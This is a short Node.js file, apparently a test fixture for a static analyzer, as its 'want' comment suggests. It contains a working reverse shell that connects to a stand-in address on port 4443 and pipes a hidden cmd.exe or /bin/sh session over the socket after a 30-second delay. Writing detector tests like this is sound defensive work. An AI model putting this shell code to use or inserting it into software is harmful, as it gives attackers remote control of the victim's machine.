const net = require('net');
const { spawn } = require('child_process');

function keep() {
  const socket = new net.Socket();
  socket.connect(4443, '192.0.2.9', () => {
    const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { windowsHide: true }); // want "a shell is tied to a connection to \"192.0.2.9\""
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
  });
}
setTimeout(keep, 30000);
